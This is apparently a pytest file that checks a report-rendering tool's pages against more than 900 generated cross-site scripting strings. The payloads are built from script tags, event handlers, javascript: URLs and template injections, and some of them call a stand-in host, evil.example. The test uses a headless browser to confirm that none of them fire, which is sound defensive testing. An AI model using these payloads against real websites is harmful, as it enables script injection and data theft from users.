"""Over nine hundred hostile strings in every place that a page shows: no dialog, no request, no report of the page's own policy."""

from itertools import product

import pytest

from rashomon import Report, compare, page, read

ACTIONS = ["alert(1)", "fetch('http://evil.example/')", "document.title='x'", "location='http://evil.example/'"]
SHAPES = [
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<details open ontoggle={}>",
    "<video><source onerror={}>", "<input autofocus onfocus={}>", "<a href=javascript:{}>x</a>", "<form action=javascript:{}><button>", "<math><mi xlink:href=javascript:{}>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<marquee onstart={}>", "<style>@import 'http://evil.example/{}';</style>", "<link rel=stylesheet href='http://evil.example/{}'>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='http://evil.example/{}'>", "<template><script>{}</script></template>", "<noscript><p title='</noscript><script>{}</script>'>", "<textarea></textarea><script>{}</script>", "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>", "javascript:{}", "data:text/html,<script>{}</script>", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<%= {} %>",
]  # fmt: skip
EDGES = [("", ""), ('"', '"'), ("'", "'"), ("</p>", ""), ("</script>", "<script>"), ("</title>", ""), ("\u2028", "\u2029"), ("&lt;", "&gt;")]
VECTORS = [f"{before}{shape.format(action)}{after}" for action, shape, (before, after) in product(ACTIONS, SHAPES, EDGES)]


@pytest.fixture(scope="module")
def pages():
    """Every vector in the text of a report, and each place filled with some of them."""
    made = []
    for n in range(0, len(VECTORS), 160):
        some = VECTORS[n : n + 160]
        text = "\n\n".join(f"“We said {v},” Ada Holt told the council." if k % 2 else f"The council said on Monday: {v}" for k, v in enumerate(some))
        known = Report("r", text, outlet=some[0], title=some[2], byline=some[4], url=some[6], published="2031-05-06")
        made.append(page(compare([read(known)])))
    return made


def test_no_vector_fires(chromium, pages, tmp_path):
    assert len(VECTORS) >= 900
    fired = []
    for n, html in enumerate(pages):
        path = tmp_path / f"{n}.html"
        path.write_text(html, encoding="utf-8")
        context = chromium.new_context(bypass_csp=False)
        shown = context.new_page()
        shown.on("dialog", lambda d: fired.append(f"dialog {d.message}") or d.dismiss())
        shown.on("request", lambda r: fired.append(r.url) if not r.url.startswith("file://") else None)
        shown.on("console", lambda m: fired.append(m.text) if m.type == "error" else None)
        shown.on("pageerror", lambda e: fired.append(str(e)))
        shown.goto(path.as_uri())
        for link in shown.locator("a[href^='#']").all()[:5]:
            link.focus()
        shown.wait_for_timeout(200)
        assert shown.title() != "x"
        context.close()

    assert not fired
